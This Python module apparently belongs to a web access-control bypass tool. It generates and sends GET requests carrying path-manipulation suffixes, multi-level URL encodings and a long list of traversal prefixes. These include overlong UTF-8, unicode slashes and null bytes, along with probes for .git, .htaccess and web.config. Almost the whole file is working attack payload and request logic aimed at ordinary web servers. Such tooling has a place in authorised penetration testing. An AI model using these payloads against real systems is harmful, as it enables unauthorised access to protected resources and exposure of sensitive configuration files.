"""Bypass attempts that rewrite, encode or traverse the URL path."""

from __future__ import annotations

import posixpath
from collections.abc import Iterable
from urllib.parse import quote_plus

from .client import HttpClient, RequestError
from .models import BypassConfig, ParsedURL, Result, parse_url

PATH_TECHNIQUE = "URL Path Manipulation"
ENCODING_TECHNIQUE = "URL Encoding"
TRAVERSAL_TECHNIQUE = "Path Traversal"

_TRAVERSAL_PREFIXES = (
    "..;/",
    "../;",
    "..%2f",
    "..%252f",
    ".%2e/",
    "..%00/",
    "..%0d/",
    "..%5c",
    "/..%2f",
    "..././",
    "..../",
    "....//",
    "...//",
    "..\\/",
    "..\\\\/",
    "..%c0%af/",
    "..%c1%9c/",
    "..%c0%af..%c0%af/",
    "..%ef%bc%8f",  # full-width slash
    "..%e0%80%af",  # overlong slash
    "%2e%2e%2f",
    "%2e%2e%5c",
    "%2e%2e%c0%af",
    "..%u2215",  # unicode slash
    "..%u2216",  # unicode backslash
)


def _get_each(urls: Iterable[str], client: HttpClient, config: BypassConfig,
              technique: str) -> list[Result]:
    results = []
    for url in urls:
        try:
            code = client.status("GET", url, {"User-Agent": config.user_agent})
        except RequestError:
            continue
        results.append(Result(url, code, "GET", technique))
    return results


def _urls_for(parsed: ParsedURL, paths: Iterable[str]) -> list[str]:
    return [str(parsed.with_path(path)) for path in paths]


def _clean(path: str) -> str:
    cleaned = posixpath.normpath(path)
    if cleaned.startswith("//"):
        cleaned = "/" + cleaned.lstrip("/")
    return cleaned


def _dir(path: str) -> str:
    return _clean(path[:path.rfind("/") + 1])


def path_manipulation(base_url: str, client: HttpClient,
                      config: BypassConfig) -> list[Result]:
    """GET variants of the URL with suffixes and rewritten separators.

    Raises URLParseError when the base URL cannot be parsed.
    """
    parsed = parse_url(base_url)
    original = parsed.path
    suffixes = (
        "/", "//", "/..", "/./", "%2f", "%2e", "%252f",
    )
    later_suffixes = (
        "/;", "..;/", ".json", ".html", ".php", "%20", "%09", "~",
    )
    advanced_suffixes = (
        "?", "#", "?#", "##", "#?", ";", ";/", "\\", "%00",
        ".php.jpg", ".asp;.jpg", "/.git", "/.svn", "/.htaccess",
        "/web.config", "/.DS_Store",
    )
    paths = [
        *(original + suffix for suffix in suffixes),
        "//" + parsed.host + original,
        "/" + original,
        *(original + suffix for suffix in later_suffixes),
        original.replace("/", "//"),
        original.replace("/", "/./"),
        *(original + suffix for suffix in advanced_suffixes),
    ]
    return _get_each(_urls_for(parsed, paths), client, config, PATH_TECHNIQUE)


def mix_encode(path: str) -> str:
    """Query-escape every even-numbered, non-empty segment of a path."""
    return "/".join(
        quote_plus(part.encode("utf-8", "surrogateescape"), safe="")
        if index % 2 == 0 and part else part
        for index, part in enumerate(path.split("/"))
    )


def url_encoding_bypass(base_url: str, client: HttpClient,
                        config: BypassConfig) -> list[Result]:
    """GET variants of the URL with single, double and mixed encodings.

    Raises URLParseError when the base URL cannot be parsed.
    """
    parsed = parse_url(base_url)
    original = parsed.path
    paths = [
        original.replace("/", "%2f"),
        original.replace("/", "%252f"),
        original.replace("/", "%2F"),
        original.replace("a", "%61"),
        original.replace("A", "%41"),
        original.replace("s", "%73"),
        original.replace("S", "%53"),
        original.replace("/", "%2f%2f"),
        original.replace(".", "%2e"),
        # Double encoding
        original.replace("/", "%25%32%66"),
        original.replace("/", "%25%32%46"),
        original.replace(".", "%25%32%65"),
        original.replace(".", "%25%32%45"),
        # Triple encoding
        original.replace("/", "%25%25%33%32%25%36%36"),
        mix_encode(original),
    ]
    return _get_each(_urls_for(parsed, paths), client, config, ENCODING_TECHNIQUE)


def path_traversal(base_url: str, client: HttpClient,
                   config: BypassConfig) -> list[Result]:
    """GET traversal sequences placed alone, after the directory and over the last segment.

    Raises URLParseError when the base URL cannot be parsed.
    """
    parsed = parse_url(base_url)
    target = parsed.path.split("/")[-1]
    dir_path = _dir(parsed.path)
    if dir_path == ".":
        dir_path = "/"

    paths = []
    for prefix in _TRAVERSAL_PREFIXES:
        traversal = prefix + target
        paths.extend([
            traversal,
            dir_path + "/" + traversal,
            parsed.path.replace(target, traversal, 1),
        ])
    return _get_each(_urls_for(parsed, paths), client, config, TRAVERSAL_TECHNIQUE)